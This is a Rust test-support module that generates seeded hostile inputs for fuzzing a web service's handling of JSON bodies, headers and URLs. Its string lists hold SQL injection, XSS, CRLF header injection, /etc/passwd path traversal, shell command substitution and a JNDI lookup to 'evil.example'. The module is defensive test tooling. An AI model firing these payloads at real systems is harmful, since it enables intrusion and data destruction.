//! What attackers and broken clients send. The same seed makes the same inputs.

use rand::{RngExt as _, SeedableRng as _, rngs::StdRng};
use serde_json::{Value, json};

/// Text that has gone wrong somewhere: in SQL, HTML, a header, a path, a log, a terminal, a parser.
const TEXTS: &[&str] = &[
    "",
    " ",
    "' OR '1'='1' -- ",
    "'; DROP TABLE outbox; -- ",
    "\" OR 1=1 #",
    "\\' UNION SELECT password FROM mysql.user -- ",
    "%' OR message_id LIKE '%",
    "%_%_\\%\\_",
    "`outbox`",
    "1/**/OR/**/1=1",
    "0 OR SLEEP(20)",
    "<xss>",
    "<script>alert('<xss>')</script>",
    "\"><img src=x onerror=alert(1)><xss>",
    "' autofocus onfocus=alert(1) x='<xss>",
    "</textarea></title></pre><xss>",
    "<!--<xss>",
    "javascript:alert(1)//<xss>",
    "&lt;xss&gt;&#60;xss&#62;<xss>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "%3Cxss%3E<xss>",
    "a\r\nx-evil: 1",
    "a\nset-cookie: evil=1",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<xss>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/ops/../metrics",
    "//evil.example/ops",
    "file:///etc/passwd",
    "\0",
    "a\0b",
    "\u{1b}[2J\u{1b}]0;evil\u{7}",
    "\u{202e}txet desrever",
    "\u{feff}bom",
    "\u{fffe}\u{ffff}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "🏴‍☠️🧨",
    "İıſK",
    "ﷺ﷽",
    "null",
    "undefined",
    "true",
    "NaN",
    "-1",
    "1e400",
    "0x7fffffff",
    "18446744073709551616",
    "99999999999999999999999999999999999999999999",
    "2026-02-30T25:61:61Z",
    "0000-00-00 00:00:00",
    "$(touch /tmp/evil)",
    "`touch /tmp/evil`",
    "|| touch /tmp/evil",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%n%n",
    "__proto__",
    "sha256:0000000000000000000000000000000000000000000000000000000000000000",
];

/// Numbers as they stand in JSON; half of them are none.
const NUMBERS: &[&str] = &[
    "0",
    "-0",
    "-1",
    "1.5",
    "1e3",
    "1e400",
    "-1e400",
    "1E-400",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "1000000000000001",
    "-9223372036854775809",
    "00",
    "01",
    "+1",
    ".5",
    "1.",
    "0x10",
    "NaN",
    "Infinity",
    "-",
    "99999999999999999999999999999999999999999999999999999999999999999999999999999999999999999999",
];

/// Bodies that are no JSON, or JSON that requests too much.
fn broken() -> Vec<Vec<u8>> {
    let mut bodies: Vec<Vec<u8>> = [
        &b"{"[..],
        b"}",
        b"[",
        b"\"",
        b"nul",
        b"{]",
        b"{\"a\"}",
        b"{\"a\":}",
        b"{,}",
        b"[1,]",
        b"{\"a\":1}{\"a\":2}",
        b"'a'",
        b"\xff\xfe{\x00}\x00",
        b"\xef\xbb\xbf{}",
        b"{\"a\":\"\xff\"}",
        b"{\"a\":\"\xc0\x80\"}",
        b"{\"a\":\"\xed\xa0\x80\"}",
        b"{\"a\":\"\\ud800\"}",
        b"{\"a\":\"\\u00\"}",
        b"{\"a\":\"\x01\"}",
        b"\0",
        b"\x1f\x8b\x08\x00",
        b"<?xml version=\"1.0\"?><!DOCTYPE a><a/>",
        b"a=1&b=2",
        b"null",
        b"true",
        b"0",
        b"\"text\"",
        b"[]",
        b"{}",
        b"[{}]",
        b"",
    ]
    .map(<[u8]>::to_vec)
    .into();
    bodies.push(b"[".repeat(30_000));
    bodies.push(
        [
            b"{\"a\":".repeat(10_000),
            b"1".to_vec(),
            b"}".repeat(10_000),
        ]
        .concat(),
    );
    bodies.push(b"9".repeat(60_000));
    bodies.push([b"{\"a\":\"", &b"x".repeat(70_000)[..], b"\"}"].concat());
    bodies
}

/// A source of hostile input.
pub(crate) struct Hostile(StdRng);

impl Hostile {
    pub(crate) fn new(seed: u64) -> Self {
        Self(StdRng::seed_from_u64(seed))
    }

    pub(crate) fn index(&mut self, len: usize) -> usize {
        self.0.random_range(0..len)
    }

    pub(crate) fn one_in(&mut self, n: u32) -> bool {
        self.0.random_range(0..n) == 0
    }

    /// A hostile text: one of the list, two of them joined, or much of one.
    pub(crate) fn text(&mut self) -> String {
        let text = TEXTS[self.index(TEXTS.len())];
        match self.index(6) {
            0 => format!("{text}{}", TEXTS[self.index(TEXTS.len())]),
            1 => text.repeat([2, 20, 70, 300, 1_100][self.index(5)]),
            _ => text.to_owned(),
        }
    }

    /// A value where something else is expected.
    pub(crate) fn value(&mut self) -> Value {
        match self.index(9) {
            0 => Value::Null,
            1 => json!(self.one_in(2)),
            2 => json!([self.text()]),
            3 => json!({ self.text(): self.text() }),
            4 => json!(-1),
            5 => json!(u64::MAX),
            6 => json!(1.5e300),
            _ => json!(self.text()),
        }
    }

    /// A body: of `valid`, some members are hostile, missing or doubled; or it is no JSON at all.
    pub(crate) fn body(&mut self, valid: &Value) -> Vec<u8> {
        if self.one_in(6) {
            let mut broken = broken();
            return broken.swap_remove(self.index(broken.len()));
        }
        let members = valid.as_object().unwrap();
        let mut parts = Vec::new();
        // At least one member is hostile, whatever is drawn.
        let victim = self.index(members.len().max(1));
        for (at, (name, value)) in members.iter().enumerate() {
            let name_text = json!(name).to_string();
            if at != victim && !self.one_in(6) {
                parts.push(format!("{name_text}:{value}"));
                continue;
            }
            match self.index(8) {
                0 => {}
                1 => parts.extend([
                    format!("{name_text}:{value}"),
                    format!("{name_text}:{}", self.value()),
                ]),
                2 => parts.push(format!("{}:{value}", json!(self.text()))),
                3 => parts.push(format!(
                    "{name_text}:{}",
                    NUMBERS[self.index(NUMBERS.len())]
                )),
                _ => parts.push(format!("{name_text}:{}", self.value())),
            }
        }
        if self.one_in(8) {
            parts.push(format!("{}:{}", json!(self.text()), self.value()));
        }
        format!("{{{}}}", parts.join(",")).into_bytes()
    }

    /// Bytes for a header's value; CR, LF and NUL are left in when they make no second header.
    pub(crate) fn header_value(&mut self) -> Vec<u8> {
        let mut value = self.text().into_bytes();
        if self.one_in(4) {
            value.push(0x80 + u8::try_from(self.index(128)).unwrap());
        }
        value
    }

    /// A path segment or a query's value, percent-encoded, badly encoded or raw.
    pub(crate) fn in_url(&mut self) -> Vec<u8> {
        let text = self.text();
        let encoded = |bytes: &[u8]| -> Vec<u8> {
            bytes
                .iter()
                .flat_map(|byte| format!("%{byte:02X}").into_bytes())
                .collect()
        };
        match self.index(6) {
            0 => b"%".to_vec(),
            1 => b"%zz%1".to_vec(),
            2 => encoded(b"\xff\xfe\xc0\x80"),
            3 => text
                .bytes()
                .filter(|byte| byte.is_ascii_graphic() && *byte != b'#')
                .collect(),
            _ => encoded(text.as_bytes()),
        }
    }
}
